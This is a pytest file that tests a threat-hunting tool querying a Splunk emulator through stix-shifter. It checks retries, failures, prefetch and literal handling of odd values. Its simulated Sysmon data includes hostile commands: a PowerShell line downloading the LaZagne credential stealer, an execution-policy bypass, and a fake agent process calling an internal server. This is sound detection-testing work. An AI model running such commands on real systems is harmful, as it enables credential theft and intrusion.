"""GET ... FROM stixshifter://splunk end to end: the real stix-shifter splunk module (query
translation, async transmission, results translation) against the Splunk emulator over TLS,
into a real SQLite store.  Faults, failures, interruption and hostile values included."""
from __future__ import annotations

import json
import os
from datetime import datetime, timezone

import pytest

import stix_shifter_modules.splunk  # noqa: E402,F401

from stixgraph.demo.run import splunk_profile  # noqa: E402
from stixgraph.errors import StixgraphError  # noqa: E402
from stixgraph.session import Session  # noqa: E402
from stixgraph.splunk.emulator import Emulator, Faults  # noqa: E402
from stixgraph.splunk.events import EventStore  # noqa: E402

NOW = datetime(2024, 12, 20, tzinfo=timezone.utc)
SPAN = "START 2024-12-01T00:00:00Z STOP 2024-12-24T00:00:00Z"


def _row(i: int, name: str, command: str, *, t: str = "2024-12-12T16:43:01.123", pid=None,
         user="WINDOWSTARGET\\inf808", **extra) -> dict:
    guid = f"{{4b6e0fd2-{i:04x}-675a-0e00-000000002a00}}"
    row = {"_time": f"{t}+00:00", "host": "WindowsTarget", "index": "main",
           "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
           "sourcetype": "XmlWinEventLog", "_sourcetype": "XmlWinEventLog",
           "_raw": f"<Event><EventID>1</EventID><Data Name='Image'>{name}</Data></Event>",
           "signature_id": "1", "signature": "Process Create", "vendor_product": "Microsoft Sysmon",
           "process_name": name, "process": command, "process_id": str(pid or 1000 + i),
           "process_guid": guid, "process_path": f"C:\\Windows\\System32\\{name}",
           "parent_process_name": "splunkd.exe", "parent_process_id": "5784",
           "parent_process": "C:\\Users\\Public\\splunkd.exe -server http://10.0.0.4:8888",
           "user": user}
    row.update(extra)
    return row


ROWS = [_row(i, "cmd.exe", f"cmd.exe /C ipconfig /all #{i}") for i in range(7)] + [
    _row(20, "powershell.exe", "powershell.exe -ExecutionPolicy Bypass -C whoami"),
    _row(21, "cmd.exe", "cmd.exe /C arp -a", t="2024-11-20T10:00:00.000"),  # before START
    _row(22, "CMD.EXE", "CMD.EXE /c dir"),  # Splunk's = is case-insensitive; STIX's is not
    _row(30, 'a"b.exe', 'a"b.exe --quote'),
    # the splunk module's CheckProcessName keeps the base name: backslashes go in the command
    _row(31, "y.exe", "C:\\x\\y.exe \\\\srv\\c$ \\"),
    _row(32, "p|q[1].exe", "pipes"),
    _row(33, "star*.exe", "literal star"),
    _row(34, "starXYZ.exe", "would match a wildcard"),
    _row(35, "two\nlines.exe", "newline"),
]


@pytest.fixture(scope="module")
def emulator():
    with Emulator(EventStore(ROWS), now=NOW) as emu:
        yield emu


@pytest.fixture
def profile(emulator, monkeypatch, tmp_path):
    monkeypatch.setenv("STIXGRAPH_CONFIG", str(tmp_path / "none.toml"))
    emulator.faults = Faults()

    def use(**options):
        options.setdefault("retrieval_batch_size", 3)
        options.setdefault("retry_backoff", 0.01)
        cm = splunk_profile(emulator, options=options)
        cm.__enter__()
        uses.append(cm)
        return emulator

    uses: list = []
    use()
    yield use
    for cm in reversed(uses):
        cm.__exit__(None, None, None)


def _names(session, var: str) -> list[str]:
    t = session.run(f"DISP {var} ATTR name, pid")[-1]
    return sorted(r[0] for r in t.rows)


def _store_state(session) -> tuple:
    db = session.store.db
    return tuple(db.execute(f"SELECT COUNT(*) FROM {t}").fetchone()[0]
                 for t in ("entities", "edges", "observations", "variables", "var_rows"))


def test_get_through_stix_shifter(profile):
    s = Session(":memory:", now=NOW)
    s.run(f"p = GET process FROM stixshifter://splunk WHERE name = 'cmd.exe' {SPAN}")
    info = s.vars["p"]
    # 7 cmd.exe in range; the November one is out of range, CMD.EXE differs in case;
    # splunkd.exe parents come as processes too but are not cmd.exe
    assert info.entities == 7
    assert _names(s, "p") == ["cmd.exe"] * 7
    cmds = {r[0] for r in s.run("DISP p ATTR command_line")[-1].rows}
    assert "cmd.exe /C ipconfig /all #3" in cmds
    # FROM splunk means stixshifter://splunk, as in Kestrel
    s.run(f"q = GET process FROM splunk WHERE name = 'powershell.exe' {SPAN}")
    assert s.vars["q"].entities == 1
    # the graph: parent process, user, host asset, event
    s.run("par = FIND process CREATED p")
    assert _names(s, "par") == ["splunkd.exe"]
    # the splunk module maps `user` onto the event (x-oca-event.user_ref), not onto the
    # process (creator_user_ref): the user is LINKED to the processes, not OWNED by them
    s.run("u = FIND user-account LINKED p")
    assert [r[0] for r in s.run("DISP u ATTR user_id")[-1].rows] == ["WINDOWSTARGET\\inf808"]
    s.run("o = FIND user-account OWNED p")
    assert s.vars["o"].entities == 0


def test_paging_and_workers_give_the_same_store(profile):
    results = []
    for workers in (0, 2):
        profile(retrieval_batch_size=2, workers=workers)
        s = Session(":memory:", now=NOW)
        s.run(f"p = GET process FROM splunk WHERE command_line LIKE '%ipconfig%' {SPAN}")
        db = s.store.db
        objects = sorted(r[0] for r in db.execute("SELECT props FROM entities"))
        shown = s.run("DISP p ATTR name, command_line, parent_ref.name, binary_ref.name, "
                      "binary_ref.parent_directory_ref.path")[-1].rows
        results.append((s.vars["p"].entities, objects, sorted(map(tuple, shown)),
                        db.execute("SELECT COUNT(*) FROM edges").fetchone()[0],
                        db.execute("SELECT COUNT(*) FROM observations").fetchone()[0]))
    assert results[0][0] == 7 and len(results[0][2]) == 7 and results[0][4] == 7
    assert results[0] == results[1]


def test_result_limit_is_reported(profile):
    profile(result_limit=4)
    s = Session(":memory:", now=NOW)
    out = s.run(f"p = GET process FROM splunk WHERE command_line LIKE '%ipconfig%' {SPAN}")
    assert s.vars["p"].entities == 4  # of 7
    assert any("result_limit" in m.text for m in out)


def test_retries_5xx_and_429(profile, emulator):
    for status in (503, 429, 500):
        emulator.faults = Faults(error_rate=0.4, error_status=status, seed=7)
        s = Session(":memory:", now=NOW)
        s.run(f"p = GET process FROM splunk WHERE name = 'cmd.exe' {SPAN}")
        assert s.vars["p"].entities == 7
    emulator.faults = Faults()
    assert emulator.jobs() == []  # every job deleted, the deletes retried too


def test_logs_in_again_when_the_session_expires(profile, emulator):
    emulator.faults = Faults(expire_after_requests=2)
    s = Session(":memory:", now=NOW)
    s.run(f"p = GET process FROM splunk WHERE name = 'cmd.exe' {SPAN}")
    assert s.vars["p"].entities == 7


def test_waits_for_a_running_job(profile, emulator):
    emulator.faults = Faults(running_polls=3)
    s = Session(":memory:", now=NOW)
    s.run(f"p = GET process FROM splunk WHERE name = 'cmd.exe' {SPAN}")
    assert s.vars["p"].entities == 7


@pytest.mark.parametrize("fault, match", [
    ("password", "login failed"),
    ("certificate", "certificate"),
    ("port", "cannot reach"),
])
def test_failures_are_one_line_and_change_nothing(profile, emulator, monkeypatch, fault, match):
    s = Session(":memory:", now=NOW)
    s.run(f"keep = GET process FROM splunk WHERE name = 'powershell.exe' {SPAN}")
    before = _store_state(s)
    conn = json.loads(os.environ["STIXSHIFTER_SPLUNK_CONNECTION"])
    if fault == "password":
        monkeypatch.setenv("STIXSHIFTER_SPLUNK_CONFIG",
                           json.dumps({"auth": {"username": "admin", "password": "wrong"}}))
    elif fault == "certificate":
        from stixgraph.splunk.emulator import make_certificate
        conn["selfSignedCert"] = make_certificate(emulator.cert_path.parent / "other")[2]
    else:
        import socket
        with socket.socket() as sock:
            sock.bind(("127.0.0.1", 0))
            conn["port"] = sock.getsockname()[1]  # closed once we leave: nobody listens
    monkeypatch.setenv("STIXSHIFTER_SPLUNK_CONNECTION", json.dumps(conn))
    with pytest.raises(StixgraphError) as e:
        s.run(f"p = GET process FROM splunk WHERE name = 'cmd.exe' {SPAN}")
    msg = str(e.value)
    assert match in msg.lower() and "\n" not in msg and "stixshifter://splunk" in msg
    assert "wrong" not in msg  # no password in messages
    assert _store_state(s) == before and "p" not in s.vars and s.vars["keep"].entities == 1


def test_interrupt_deletes_the_job_and_keeps_the_store(profile, emulator):
    profile(retrieval_batch_size=1)
    calls = []

    def progress(uri, n):
        calls.append(n)
        if n >= 2:
            raise KeyboardInterrupt

    s = Session(":memory:", now=NOW, progress=progress)
    before, jobs = _store_state(s), emulator.jobs()
    with pytest.raises(KeyboardInterrupt):
        s.run(f"p = GET process FROM splunk WHERE name = 'cmd.exe' {SPAN}")
    assert calls and _store_state(s) == before
    assert emulator.jobs() == jobs  # deleted, not left running on the server


@pytest.mark.parametrize("attr, value", [
    ("name", 'a"b.exe'), ("command_line", "C:\\x\\y.exe \\\\srv\\c$ \\"),
    ("name", "p|q[1].exe"), ("name", "star*.exe"), ("name", "two\nlines.exe")])
def test_hostile_values_are_searched_literally(profile, attr, value):
    from stixgraph import ir

    # built as IR: a hunt string cannot hold a raw newline
    s = Session(":memory:", now=NOW)
    where = ir.Comparison(path=ir.AttrPath(parts=(attr,)), op="=", value=value)
    stmt = ir.Get(pos=ir.Pos(1, 1, 1, "x"), out="x", etype="process", source="splunk",
                  where=where, timespan=ir.TimeRange(datetime(2024, 12, 1, tzinfo=timezone.utc),
                                                     datetime(2024, 12, 24, tzinfo=timezone.utc)),
                  limit=None)
    s.execute(stmt)
    assert [r[0] for r in s.run(f"DISP x ATTR {attr}")[-1].rows] == [value]


def test_time_range_is_right_in_any_splunk_time_zone(monkeypatch, tmp_path):
    # the emulator reads zone-less times in its user's zone, as Splunk does; stixgraph sends
    # epoch seconds, so the answer does not depend on it
    monkeypatch.setenv("STIXGRAPH_CONFIG", str(tmp_path / "none.toml"))
    rows = [_row(1, "cmd.exe", "early", t="2024-12-01T02:00:00.000"),
            _row(2, "cmd.exe", "inside", t="2024-12-10T00:00:00.000"),
            _row(3, "cmd.exe", "late", t="2024-12-23T23:30:00.000")]
    for tz in ("UTC", "America/New_York", "Asia/Tokyo"):
        with Emulator(EventStore(rows, tz=tz), now=NOW, tz=tz) as emu, splunk_profile(emu):
            s = Session(":memory:", now=NOW)
            s.run("p = GET process FROM splunk WHERE name = 'cmd.exe' "
                  "START 2024-12-01T01:00:00Z STOP 2024-12-23T23:00:00Z")
            got = sorted(r[0] for r in s.run("DISP p ATTR command_line")[-1].rows)
            assert got == ["early", "inside"], tz


# -- prefetch ---------------------------------------------------------------------------------

def _net(i: int, guid_of: int, t: str, dest: str) -> dict:
    """A Sysmon network connection (EID 3) made by the process of ``_row(guid_of, ...)``."""
    guid = f"{{4b6e0fd2-{guid_of:04x}-675a-0e00-000000002a00}}"
    return {"_time": f"{t}+00:00", "host": "WindowsTarget", "index": "main",
            "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
            "sourcetype": "XmlWinEventLog", "_sourcetype": "XmlWinEventLog",
            "_raw": f"<Event><EventID>3</EventID><n>{i}</n></Event>", "signature_id": "3",
            "signature": "Network connection detected", "vendor_product": "Microsoft Sysmon",
            "process_guid": guid, "process_id": str(1000 + guid_of),
            "process_name": "powershell.exe", "process_path":
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "src_ip": "10.0.0.5", "src_port": str(50000 + i), "dest_ip": "140.82.114.3",
            "dest_port": "443", "transport": "tcp", "protocol": "ip", "user": "inf808"}


PREFETCH_ROWS = [
    _row(40, "powershell.exe", "powershell.exe -C iwr https://github.com/x/LaZagne.exe",
         t="2024-12-12T16:40:00.000"),
    _net(1, 40, "2024-12-12T16:41:00.000", "140.82.114.3"),
    _net(2, 40, "2024-12-12T16:42:00.000", "140.82.114.3"),
    # the same process an hour later: outside the records' range + 5 minutes
    _row(41, "powershell.exe", "powershell.exe -C late", t="2024-12-12T18:00:00.000"),
]
PREFETCH_ROWS[-1]["process_guid"] = PREFETCH_ROWS[0]["process_guid"]


@pytest.fixture
def prefetch_profile(monkeypatch, tmp_path):
    monkeypatch.setenv("STIXGRAPH_CONFIG", str(tmp_path / "none.toml"))
    with Emulator(EventStore(PREFETCH_ROWS), now=NOW) as emu, \
            splunk_profile(emu, options={"retry_backoff": 0.01}):
        yield emu


PIVOT = f"""nt = GET network-traffic FROM splunk WHERE dst_port = 443 {SPAN}
procs = FIND process CREATED nt
"""


def test_find_prefetches_the_records_of_what_it_found(prefetch_profile):
    s = Session(":memory:", now=NOW)
    s.run(PIVOT)
    # the network events name the process; its command line is in its creation event, which
    # only the prefetch query brings in (time range: the records' own, +- 5 minutes)
    shown = s.run("DISP procs ATTR name, command_line")[-1].rows
    assert [tuple(r) for r in shown] == [
        ("powershell.exe", "powershell.exe -C iwr https://github.com/x/LaZagne.exe")]
    assert s.vars["procs"].records == 3  # two connections + the creation
    n_obs = s.store.db.execute("SELECT COUNT(*) FROM observations").fetchone()[0]
    assert n_obs == 3
    # asking again brings the same Splunk events: the same observations, not new copies
    s.run("procs2 = FIND process CREATED nt")
    assert s.store.db.execute("SELECT COUNT(*) FROM observations").fetchone()[0] == n_obs
    assert s.vars["procs2"].records == 3


def test_prefetch_can_be_turned_off(prefetch_profile, monkeypatch):
    s = Session(":memory:", now=NOW, prefetch=False)
    s.run(PIVOT)
    assert s.run("DISP procs ATTR command_line")[-1].rows in ([], [[None]], [(None,)])
    assert s.vars["procs"].records == 2
    # or per profile: connection.options.prefetch = false
    conn = json.loads(os.environ["STIXSHIFTER_SPLUNK_CONNECTION"])
    conn["options"]["prefetch"] = False
    monkeypatch.setenv("STIXSHIFTER_SPLUNK_CONNECTION", json.dumps(conn))
    s = Session(":memory:", now=NOW)
    s.run(PIVOT)
    assert s.vars["procs"].records == 2


def test_get_prefetches_too_unless_direct(prefetch_profile):
    s = Session(":memory:", now=NOW)
    # a network GET finds the process's connections; GET process by name finds the creation
    # event, and the prefetch adds the connections of the same process
    s.run(f"p = GET process FROM splunk WHERE command_line LIKE '%LaZagne%' {SPAN}")
    assert s.vars["p"].entities == 1
    assert s.vars["p"].records == 4  # creation, two connections, and the 18:00 event (in SPAN)


def test_failed_prefetch_keeps_the_result_and_says_so(prefetch_profile):
    s = Session(":memory:", now=NOW)
    s.run(f"nt = GET network-traffic FROM splunk WHERE dst_port = 443 {SPAN}")
    before = _store_state(s)
    prefetch_profile.faults = Faults(fail_login=True)
    out = s.run("procs = FIND process CREATED nt")
    assert s.vars["procs"].entities == 1 and s.vars["procs"].records == 2
    assert any("prefetch of procs" in getattr(m, "text", "") and "login" in m.text
               for m in out)
    # only the new variable was added: no half-stored prefetch
    assert _store_state(s)[:3] == before[:3]
